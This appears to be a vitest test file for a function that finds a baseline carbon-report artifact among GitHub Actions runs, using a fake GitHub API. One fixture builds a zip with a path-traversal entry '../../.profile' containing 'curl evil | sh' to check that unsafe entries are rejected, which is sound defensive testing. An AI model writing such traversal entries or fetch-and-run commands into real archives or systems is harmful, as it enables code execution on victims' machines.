import { join } from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { DEFAULT_BASE_RUNS, findBaseReport, workflowIdOfRun } from "../../src/github/base-report.js";
import { createGitHubClient, type GitHubClient } from "../../src/github/client.js";
import { runReport } from "../../src/pipeline.js";
import { parseReport, type Report } from "../../src/report/schema.js";
import { type LocalServer, startServer } from "../intensity/providers/local-server.js";
import { type AddRunInput, FakeGitHub } from "./fake-github.js";
import { buildZip } from "./zip-writer.js";

const OWNER = "acme";
const NAME = "train";
const FULL = `${OWNER}/${NAME}`;
const REPO = { owner: OWNER, repo: NAME };
const TOKEN = "ghs_baseReportTestToken01";
const WORKFLOW = 1001;
const OTHER_WORKFLOW = 1002;
const ARTIFACT = "gridprint-report";
const example = new URL("../../examples/", import.meta.url).pathname;

let reportJson: string;
let report: Report;
let fake: FakeGitHub;
let client: GitHubClient;
let runCount: number;
/** Run numbers per workflow, as the fake counts them. */
let runNumbers: Map<number, number>;
let extraServer: LocalServer | undefined;

interface AddedRun {
  id: number;
  sha: string;
  /** "run N of main (abc1234)", as findBaseReport labels it. */
  label: string;
}

beforeAll(async () => {
  const made = await runReport({
    traces: [join(example, "nvidia-smi-4xA100.csv")],
    format: "auto",
    zone: "GB",
    intensitySource: "file",
    intensityFile: join(example, "gb-intensity-2025-06-03.csv"),
    timezone: "Europe/London",
    timezoneGiven: true,
    emissionFactor: "lifecycle",
    credentials: {},
    estimate: { utilization: 1 },
    budgets: {},
    cwd: example,
    version: "test",
    now: new Date("2025-06-04T00:00:00Z"),
  });
  reportJson = JSON.stringify(made);
  report = parseReport(JSON.parse(reportJson));
});

beforeEach(async () => {
  fake = await FakeGitHub.start({ token: TOKEN, blobRejectsAuthorization: true });
  fake.addRepo({ owner: OWNER, name: NAME });
  fake.addWorkflow(FULL, { id: WORKFLOW, path: ".github/workflows/train.yml", name: "Train" });
  fake.addWorkflow(FULL, { id: OTHER_WORKFLOW, path: ".github/workflows/lint.yml", name: "Lint" });
  runCount = 0;
  runNumbers = new Map();
  client = createGitHubClient({
    token: TOKEN,
    apiUrl: fake.apiUrl,
    version: "test",
    retry: { sleep: async () => {}, backoffMs: 1 },
  });
});

afterEach(async () => {
  expect(fake.openApiProblems()).toEqual([]);
  await fake.close();
  await extraServer?.close();
  extraServer = undefined;
});

/** Adds a run of WORKFLOW (a successful push to main of this repository unless told otherwise). */
function addRun(over: Partial<AddRunInput> = {}): AddedRun {
  runCount += 1;
  const sha = (over.headSha ?? `${runCount.toString(16)}`.padStart(40, "c")).toLowerCase();
  const workflowId = over.workflowId ?? WORKFLOW;
  const id = fake.addRun(FULL, {
    headBranch: "main",
    event: "push",
    conclusion: "success",
    ...over,
    workflowId,
    headSha: sha,
  });
  const number = (runNumbers.get(workflowId) ?? 0) + 1;
  runNumbers.set(workflowId, number);
  return { id, sha, label: `run ${number} of main (${sha.slice(0, 7)})` };
}

const goodZip = () => buildZip([{ name: "gridprint-report.json", data: Buffer.from(reportJson) }]);

function withReport(run: AddedRun, name = ARTIFACT): number {
  return fake.addArtifact(FULL, run.id, { name, zip: goodZip() });
}

const search = (over: Partial<Parameters<typeof findBaseReport>[1]> = {}) => ({
  repo: REPO,
  workflowId: WORKFLOW,
  baseBranch: "main",
  artifactName: ARTIFACT,
  ...over,
});

/** Runs whose artifacts were listed, in order. */
const listedRuns = () =>
  fake.requests
    .map((r) => /\/actions\/runs\/(\d+)\/artifacts$/.exec(r.path)?.[1])
    .filter((id): id is string => id !== undefined)
    .map(Number);

describe("findBaseReport", () => {
  it("takes the newest successful push run's report and says where it came from", async () => {
    const older = addRun();
    withReport(older);
    const newest = addRun();
    const artifactId = withReport(newest);

    const found = await findBaseReport(client, search());
    expect(found.note).toBeUndefined();
    expect(found.base?.report).toEqual(report);
    expect(found.base?.label).toBe(newest.label);
    expect(found.base?.run).toEqual({
      id: newest.id,
      url: `https://github.com/${FULL}/actions/runs/${newest.id}`,
      sha: newest.sha,
      branch: "main",
      artifact: ARTIFACT,
      createdAt: expect.stringMatching(/^2025-06-03T08:02:00Z$/),
    });
    expect(found.steps).toEqual([`${newest.label}: report found in artifact "${ARTIFACT}"`]);
    expect(listedRuns()).toEqual([newest.id]);
    expect(fake.blobDownloads).toEqual([expect.objectContaining({ artifactId, authorization: undefined })]);
  });

  it("asks only for successful push runs of the workflow on the base branch", async () => {
    const good = addRun();
    withReport(good);
    // Newer, each with a report, but none may be the baseline; the API query leaves them out.
    withReport(addRun({ conclusion: "failure" }));
    withReport(addRun({ conclusion: null }));
    withReport(addRun({ event: "pull_request", headBranch: "feature" }));
    withReport(addRun({ event: "pull_request", headBranch: "main" }));
    withReport(addRun({ headBranch: "develop" }));
    withReport(addRun({ workflowId: OTHER_WORKFLOW }));

    const found = await findBaseReport(client, search());
    expect(found.base?.run?.id).toBe(good.id);
    expect(listedRuns()).toEqual([good.id]);

    const runsRequests = fake.requests.filter((r) => r.path.endsWith("/runs"));
    expect(runsRequests).toHaveLength(1);
    const query = new URL(runsRequests[0]?.url ?? "", fake.apiUrl);
    expect(query.pathname).toBe(`/repos/${FULL}/actions/workflows/${WORKFLOW}/runs`);
    expect(Object.fromEntries(query.searchParams)).toEqual({
      branch: "main",
      event: "push",
      status: "success",
      exclude_pull_requests: "true",
      per_page: "30",
    });
  });

  it("skips a newer run whose head is a fork's branch of the same name, and says so", async () => {
    const ours = addRun();
    withReport(ours);
    const fork = addRun({ headRepository: "mallory/train" });
    // The fork's artifact is a valid report too: it must still never become the baseline.
    withReport(fork);

    const found = await findBaseReport(client, search());
    expect(found.base?.run?.id).toBe(ours.id);
    expect(found.steps).toEqual([
      `run ${fork.id}: skipped, its head is mallory/train:main`,
      `${ours.label}: report found in artifact "${ARTIFACT}"`,
    ]);
    expect(listedRuns()).toEqual([ours.id]);
    expect(fake.requests.some((r) => r.path.includes(`/runs/${fork.id}`))).toBe(false);
  });

  it("compares the repository name without regard to case", async () => {
    const ours = addRun();
    withReport(ours);
    const found = await findBaseReport(client, search({ repo: { owner: "ACME", repo: "Train" } }));
    expect(found.base?.run?.id).toBe(ours.id);
  });

  it("gives the 'no successful push run' note when there is none", async () => {
    const found = await findBaseReport(client, search());
    expect(found).toEqual({
      note: `No baseline: no successful push run of this workflow on main yet. It appears once main has run this workflow with the report uploaded as artifact "${ARTIFACT}".`,
      steps: [],
    });
    expect(listedRuns()).toEqual([]);
  });

  it("gives the same note when only a fork's runs are found, with their skips in the steps", async () => {
    const fork = addRun({ headRepository: "mallory/train" });
    withReport(fork);
    const found = await findBaseReport(client, search({ baseBranch: "main" }));
    expect(found.base).toBeUndefined();
    expect(found.note).toMatch(/^No baseline: no successful push run of this workflow on main yet\./);
    expect(found.steps).toEqual([`run ${fork.id}: skipped, its head is mallory/train:main`]);
  });

  describe("walking back", () => {
    /** Five eligible runs, each unusable in its own way, newer than one good run. */
    function badRuns() {
      const good = addRun();
      withReport(good);
      const none = addRun();
      fake.addArtifact(FULL, none.id, { name: `${ARTIFACT}-old`, zip: goodZip() });
      const expired = addRun();
      fake.addArtifact(FULL, expired.id, { name: ARTIFACT, zip: goodZip(), expired: true });
      const hostile = addRun();
      fake.addArtifact(FULL, hostile.id, {
        name: ARTIFACT,
        zip: buildZip([
          { name: "gridprint-report.json", data: Buffer.from(reportJson) },
          { name: "../../.profile", data: Buffer.from("curl evil | sh") },
        ]),
      });
      const notJson = addRun();
      fake.addArtifact(FULL, notJson.id, {
        name: ARTIFACT,
        zip: buildZip([{ name: "gridprint-report.json", data: Buffer.from("{ nope") }]),
      });
      // Listed as live, but the download answers 410 (it expired in between).
      const gone = addRun();
      const goneArtifact = fake.addArtifact(FULL, gone.id, { name: ARTIFACT, zip: goodZip() });
      fake.fault((r) => r.host === "api" && r.path.endsWith(`/artifacts/${goneArtifact}/zip`), {
        status: 410,
        body: { message: "Artifact has expired" },
      });
      const steps = [
        `${gone.label}: artifact "${ARTIFACT}" has expired`,
        `${notJson.label}: artifact "${ARTIFACT}" gridprint-report.json: not JSON`,
        `${hostile.label}: artifact "${ARTIFACT}": the artifact zip holds an entry with an unsafe name "../../.profile"`,
        `${expired.label}: artifact "${ARTIFACT}" expired`,
        `${none.label}: no artifact "${ARTIFACT}"`,
      ];
      return { good, bad: [gone, notJson, hostile, expired, none], steps };
    }

    it("gives up after maxRuns (default 5) eligible runs, listing what was tried in the note", async () => {
      const { good, bad, steps } = badRuns();
      expect(DEFAULT_BASE_RUNS).toBe(5);
      const found = await findBaseReport(client, search());
      expect(found.base).toBeUndefined();
      expect(listedRuns()).toEqual(bad.map((r) => r.id));
      expect(listedRuns()).not.toContain(good.id);
      expect(found.steps).toHaveLength(5);
      steps.forEach((start, i) => {
        expect(found.steps[i]?.startsWith(start)).toBe(true);
      });
      const note = found.note ?? "";
      expect(note).toMatch(
        /^No baseline: none of the last 5 successful push run\(s\) on main left a usable artifact "gridprint-report" \(/,
      );
      expect(note.endsWith(`(${found.steps.join("; ")}).`)).toBe(true);
    });

    it("walks back past every kind of unusable run to a good one within maxRuns", async () => {
      const { good, bad, steps } = badRuns();
      const found = await findBaseReport(client, search({ maxRuns: 6 }));
      expect(found.note).toBeUndefined();
      expect(found.base?.run?.id).toBe(good.id);
      expect(found.base?.label).toBe(good.label);
      expect(listedRuns()).toEqual([...bad.map((r) => r.id), good.id]);
      expect(found.steps).toHaveLength(6);
      steps.forEach((start, i) => {
        expect(found.steps[i]?.startsWith(start)).toBe(true);
      });
      expect(found.steps[5]).toBe(`${good.label}: report found in artifact "${ARTIFACT}"`);
    });

    it("lists in its note only the runs it tried, not the fork runs it skipped", async () => {
      const older = addRun();
      const fork = addRun({ headRepository: "mallory/train" });
      const newer = addRun();
      const found = await findBaseReport(client, search({ maxRuns: 1 }));
      expect(listedRuns()).toEqual([newer.id]);
      expect(found.steps).toEqual([
        `run ${fork.id}: skipped, its head is mallory/train:main`,
        `${newer.label}: no artifact "${ARTIFACT}"`,
      ]);
      expect(found.note).toBe(
        `No baseline: none of the last 1 successful push run(s) on main left a usable artifact "${ARTIFACT}" (${newer.label}: no artifact "${ARTIFACT}").`,
      );
      expect(found.note).not.toContain(String(older.id));
    });

    it("counts fewer runs than maxRuns when there are fewer", async () => {
      const only = addRun();
      const found = await findBaseReport(client, search({ maxRuns: 10 }));
      expect(found.note).toBe(
        `No baseline: none of the last 1 successful push run(s) on main left a usable artifact "${ARTIFACT}" (${only.label}: no artifact "${ARTIFACT}").`,
      );
    });

    it("retries a 5xx while listing runs and artifacts", async () => {
      const good = addRun();
      withReport(good);
      fake.fault((r) => r.path.endsWith("/runs"), { status: 502, body: "Bad Gateway" });
      fake.fault((r) => r.path.endsWith("/artifacts"), { status: 503, body: "Unavailable" });
      const found = await findBaseReport(client, search());
      expect(found.base?.run?.id).toBe(good.id);
    });

    it("lets an API failure that is no artifact problem through, for the caller's note", async () => {
      addRun();
      fake.fault((r) => r.path.endsWith("/artifacts"), { status: 403, body: { message: "Forbidden" } });
      await expect(findBaseReport(client, search())).rejects.toMatchObject({ status: 403 });
    });

    // Bug (see artifacts.test.ts): a download cut mid-body throws a bare TypeError("terminated"),
    // so the search fails as a whole instead of noting it and walking back to the older run.
    it("walks back past a download cut mid-body", async () => {
      extraServer = await startServer((_req, res) => {
        res.writeHead(200, { "content-type": "application/zip" });
        res.write(Buffer.alloc(512));
        setTimeout(() => res.socket?.destroy(), 10);
      });
      const good = addRun();
      withReport(good);
      const cut = addRun();
      const cutArtifact = withReport(cut);
      fake.fault(
        (r) => r.host === "api" && r.path.endsWith(`/artifacts/${cutArtifact}/zip`),
        { status: 302, headers: { location: `${extraServer.base}/blob` } },
        3,
      );
      const found = await findBaseReport(client, search());
      expect(found.base?.run?.id).toBe(good.id);
    });
  });
});

describe("workflowIdOfRun", () => {
  it("gives the workflow a run belongs to", async () => {
    const run = addRun({ workflowId: OTHER_WORKFLOW });
    expect(await workflowIdOfRun(client, REPO, run.id)).toBe(OTHER_WORKFLOW);
    expect(fake.requests.map((r) => r.path)).toEqual([`/repos/${FULL}/actions/runs/${run.id}`]);
  });

  it("rejects with the API's status for an unknown run", async () => {
    await expect(workflowIdOfRun(client, REPO, 123)).rejects.toMatchObject({ status: 404 });
  });
});
